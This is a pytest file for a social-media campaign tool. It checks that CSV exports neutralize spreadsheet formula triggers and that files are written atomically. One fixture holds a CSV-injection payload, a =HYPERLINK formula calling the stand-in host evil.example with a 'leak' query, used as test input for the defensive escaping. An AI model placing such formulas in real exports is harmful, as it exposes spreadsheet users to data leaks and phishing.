"""Output safety: CSV cells a spreadsheet cannot run as formulas, files written atomically."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import stat
from pathlib import Path

import pytest

from brandvoice.campaigns import Plan, plan, render_generic_csv, render_hootsuite_csv
from brandvoice.campaigns.csv_out import FORMULA_TRIGGERS, neutralize_cell, render_csv
from brandvoice.errors import InputError
from brandvoice.files import write_all_or_nothing, write_atomic
from tests.conftest import run_cli

NOW = "2026-12-06T09:00"  # the campaign below is in the weeks after
DANGEROUS_MASTERS = {
    "equals": '=HYPERLINK("https://evil.example/?leak","Cliquez ici")',
    "plus": "+33 4 94 00 00 00 : appelez le Comptoir pour réserver.",
    "minus": "-20 % sur toute la carte ce samedi au Comptoir.",
    "at": "@comptoir ouvre samedi à Toulon, venez nombreux.",
    "fullwidth-equals": "＝1+1 : deux cafés pour le prix d'un au Comptoir ce samedi.",
    "fullwidth-plus": "＋ de places en terrasse au Comptoir dès samedi.",
    "fullwidth-minus": "－30 % sur les desserts au Comptoir ce samedi.",
    "fullwidth-at": "＠comptoir : brunch dimanche à Toulon, réservez vite.",
}
SAFE_MASTER = "Le Comptoir ouvre samedi à Toulon, venez nombreux."


def _yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _campaign_body() -> str:
    lines = ["timezone: Europe/Paris", "lang: fr", "posts:"]
    masters = {**DANGEROUS_MASTERS, "safe": SAFE_MASTER}
    for hour, (post_id, master) in enumerate(masters.items()):
        day = 7 + hour // 3  # at most three a day: fewer calendar warnings
        lines += [
            f"  - id: {post_id}",
            f"    master: {_yaml_string(master)}",
            "    networks: [x]",
            f"    at: 2026-12-{day:02d}T{10 + 2 * (hour % 3)}:00",
        ]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def dangerous_plan(tmp_path_factory: pytest.TempPathFactory) -> Plan:
    path = tmp_path_factory.mktemp("campaign") / "formulas.yaml"
    path.write_text(_campaign_body(), encoding="utf-8")
    return plan(path, now=dt.datetime.fromisoformat(NOW), languagetool="off")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV cells ---------------------------------------------------------------------------


@pytest.mark.parametrize("first", sorted(FORMULA_TRIGGERS))
def test_every_trigger_gets_the_quote(first: str) -> None:
    assert neutralize_cell(f"{first}SUM(A1:A9)") == f"'{first}SUM(A1:A9)"


def test_the_trigger_set_is_owasps() -> None:
    assert set("=+-@\t\r＝＋－＠") == FORMULA_TRIGGERS


@pytest.mark.parametrize(
    "safe", ["", "Bonjour", "26/10/2026 08:00", "https://example.com/a?b=c", "0", "'déjà"]
)
def test_safe_cells_are_untouched(safe: str) -> None:
    assert neutralize_cell(safe) == safe


def test_render_csv_quotes_every_field_and_reads_back() -> None:
    text = render_csv([["a", "b"], ["=1+1", 'dit "oui", puis\nnon'], ["", "3"]])
    assert text.splitlines()[0] == '"a","b"'
    assert text.endswith("\r\n")
    assert _rows(text) == [["a", "b"], ["'=1+1", 'dit "oui", puis\nnon'], ["", "3"]]
    for line in text.split("\r\n")[:-1]:
        if line:
            assert line.startswith('"')
            assert line.endswith('"')


def test_masters_beginning_with_a_trigger_come_out_quoted_and_prefixed(
    dangerous_plan: Plan,
) -> None:
    by_post = {e.post_id: e for e in dangerous_plan.entries}
    rows = {row[0]: row for row in _rows(render_generic_csv(dangerous_plan))[1:]}
    for post_id in DANGEROUS_MASTERS:
        text = by_post[post_id].text
        assert text[0] in FORMULA_TRIGGERS, (post_id, text)  # the adaptation kept it
        assert rows[post_id][4] == "'" + text
    assert rows["safe"][4] == by_post["safe"].text  # safe text: as it is
    generic = render_generic_csv(dangerous_plan)
    assert generic.splitlines()[1].startswith('"')  # every field quoted


def test_tab_and_carriage_return_cells_are_prefixed(dangerous_plan: Plan) -> None:
    # The adaptation trims leading white space from masters, so put it in the variant.
    entry = dangerous_plan.entries[0]
    tab = dataclasses.replace(entry, variant=dataclasses.replace(entry.variant, text="\t=1+1"))
    ret = dataclasses.replace(entry, variant=dataclasses.replace(entry.variant, text="\r@x"))
    crafted = dataclasses.replace(dangerous_plan, entries=[tab, ret])
    texts = [row[4] for row in _rows(render_generic_csv(crafted))[1:]]
    assert texts == ["'\t=1+1", "'\r@x"]


def test_generic_csv_leaves_its_other_columns_untouched(dangerous_plan: Plan) -> None:
    rows = list(csv.DictReader(io.StringIO(render_generic_csv(dangerous_plan), newline="")))
    assert list(rows[0]) == [
        "post_id", "network", "voice", "datetime", "text", "count", "limit", "errors",
        "warnings",
    ]  # fmt: skip
    for row, entry in zip(rows, dangerous_plan.entries, strict=True):
        assert row["datetime"] == entry.when.isoformat()
        assert row["network"] == "x"
        assert int(row["count"]) > 0


def test_hootsuite_layout_is_kept(dangerous_plan: Plan) -> None:
    link = "https://example.com/soldes?utm_source=x"
    entries = [
        dataclasses.replace(e, link=link) if e.post_id == "minus" else e
        for e in dangerous_plan.entries
    ]
    files = render_hootsuite_csv(dataclasses.replace(dangerous_plan, entries=entries))
    assert set(files) == {"x"}
    rows = _rows(files["x"])
    assert rows[0] == ["Date (DD/MM/YYYY HH:MM)", "Message", "Link"]
    assert len(rows) - 1 == len(entries)
    for row, entry in zip(rows[1:], entries, strict=True):
        assert len(row) == 3
        assert row[0] == entry.when.strftime("%d/%m/%Y %H:%M")  # column 1: the date, as is
        message = entry.text if entry.post_id == "safe" else "'" + entry.text
        assert row[1] == message  # column 2: the message
        assert row[2] == (link if entry.post_id == "minus" else "")  # column 3: the link
    assert files["x"].startswith('"Date (DD/MM/YYYY HH:MM)","Message","Link"\r\n')


# --- Atomic writes -----------------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_write_atomic_replaces_and_keeps_permissions(tmp_path: Path) -> None:
    target = tmp_path / "post.txt"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o640)
    assert write_atomic(target, "nouveau ✓") == target
    assert target.read_text(encoding="utf-8") == "nouveau ✓"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    write_atomic(str(tmp_path / "new.bin"), b"\x00\x01")
    assert (tmp_path / "new.bin").read_bytes() == b"\x00\x01"
    assert _leftovers(tmp_path) == []


def test_write_atomic_follows_a_symbolic_link(tmp_path: Path) -> None:
    real = tmp_path / "real.md"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(real)
    write_atomic(link, "new")
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8") == "new"


def test_a_failed_rename_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "plan.ics"
    target.write_bytes(b"OLD")

    def refuse(src: object, dst: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(InputError, match="Permission denied") as caught:
        write_atomic(target, b"NEW")
    assert caught.value.path == str(target)
    assert target.read_bytes() == b"OLD"
    assert _leftovers(tmp_path) == []


def test_unencodable_text_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "post.txt"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(InputError, match="UTF-8") as caught:
        write_atomic(target, "bad \udcff surrogate")
    assert caught.value.path == str(target)
    assert target.read_text(encoding="utf-8") == "old"
    assert _leftovers(tmp_path) == []


def test_a_failed_write_of_the_data_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "index.html"
    target.write_text("old", encoding="utf-8")

    def disk_full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(InputError, match="No space left on device"):
        write_atomic(target, "<p>new</p>")
    assert target.read_text(encoding="utf-8") == "old"
    assert _leftovers(tmp_path) == []


def test_missing_folder_and_directory_in_the_way_name_the_path(tmp_path: Path) -> None:
    missing = tmp_path / "nope" / "out.csv"
    with pytest.raises(InputError, match="no such directory") as caught:
        write_atomic(missing, "x")
    assert caught.value.path == str(missing)
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(InputError, match="is a directory") as caught:
        write_atomic(tmp_path / "out.csv", "x")
    assert caught.value.path == str(tmp_path / "out.csv")


def test_all_or_nothing_writes_none_when_one_fails(tmp_path: Path) -> None:
    ics, good, blocked = tmp_path / "a.ics", tmp_path / "a.csv", tmp_path / "a-x.csv"
    ics.write_bytes(b"OLD ICS")
    blocked.mkdir()
    with pytest.raises(InputError, match="is a directory") as caught:
        write_all_or_nothing({ics: b"NEW ICS", good: b"csv", blocked: b"csv"})
    assert caught.value.path == str(blocked)
    assert ics.read_bytes() == b"OLD ICS"
    assert not good.exists()
    assert _leftovers(tmp_path) == []


def test_all_or_nothing_removes_written_temps_when_a_later_one_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = tmp_path / "a.ics", tmp_path / "b.csv"
    first.write_bytes(b"OLD")
    real_open = os.open

    def fail_second(path: str, *args: int) -> int:
        if ".b.csv." in os.fspath(path):
            raise OSError(122, "Disk quota exceeded")
        return real_open(path, *args)

    monkeypatch.setattr(os, "open", fail_second)
    with pytest.raises(InputError, match="Disk quota exceeded"):
        write_all_or_nothing({first: b"NEW", second: b"NEW"})
    assert first.read_bytes() == b"OLD"
    assert not second.exists()
    assert _leftovers(tmp_path) == []


def test_a_rename_failing_midway_says_what_was_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = tmp_path / "a.ics", tmp_path / "b.csv"
    real_replace = os.replace

    def fail_second(src: str, dst: str) -> None:
        if os.fspath(dst).endswith("b.csv"):
            raise OSError(16, "Device or resource busy")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", fail_second)
    with pytest.raises(InputError) as caught:
        write_all_or_nothing({first: b"NEW", second: b"NEW"})
    message = str(caught.value)
    assert "\n" not in message
    assert "inconsistent" in message
    assert f"{first} replaced" in message
    assert f"{second} left as before" in message
    assert _leftovers(tmp_path) == []


# --- plan, end to end --------------------------------------------------------------------


def _plan_campaign(tmp_path: Path) -> Path:
    campaign = tmp_path / "soldes.yaml"
    campaign.write_text(
        "timezone: Europe/Paris\nlang: fr\nposts:\n  - id: soldes\n"
        '    master: "-30 % sur tout le Comptoir samedi à Toulon, venez nombreux."\n'
        "    networks: [x, linkedin]\n    at: 2026-12-12T10:00\n",
        encoding="utf-8",
    )
    return campaign


def test_plan_leaves_the_old_calendar_when_the_csv_cannot_be_written(tmp_path: Path) -> None:
    campaign = _plan_campaign(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    ics, blocked = out / "plan.ics", out / "plan.csv"
    ics.write_bytes(b"BEGIN:VCALENDAR\r\nX-OLD:1\r\nEND:VCALENDAR\r\n")
    blocked.mkdir()  # a directory where the CSV should go
    result = run_cli(
        "plan", str(campaign), "--now", NOW, "--no-languagetool", "--fail-on", "never",
        "--ics", str(ics), "--csv", str(blocked),
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert str(blocked) in lines[0]
    assert "is a directory" in lines[0]
    assert result.stdout == ""
    assert ics.read_bytes() == b"BEGIN:VCALENDAR\r\nX-OLD:1\r\nEND:VCALENDAR\r\n"
    assert sorted(p.name for p in out.iterdir()) == ["plan.csv", "plan.ics"]


def test_plan_hootsuite_files_are_all_or_nothing_and_quoted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from brandvoice.cli import main

    campaign = _plan_campaign(tmp_path)
    target = tmp_path / "launch.csv"
    (tmp_path / "launch-linkedin.csv").mkdir()
    args = [
        "plan", str(campaign), "--now", NOW, "--no-languagetool", "--fail-on", "never",
        "--csv", str(target), "--csv-format", "hootsuite",
    ]  # fmt: skip
    assert main(args) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1
    assert "launch-linkedin.csv" in err[0]
    assert not (tmp_path / "launch-x.csv").exists()  # the other network's file: not written
    (tmp_path / "launch-linkedin.csv").rmdir()
    assert main(args) == 0
    capsys.readouterr()
    rows = _rows((tmp_path / "launch-x.csv").read_bytes().decode("utf-8"))
    assert rows[0] == ["Date (DD/MM/YYYY HH:MM)", "Message", "Link"]
    assert rows[1][0] == "12/12/2026 10:00"
    assert rows[1][1].startswith("'-30")
    assert _leftovers(tmp_path) == []
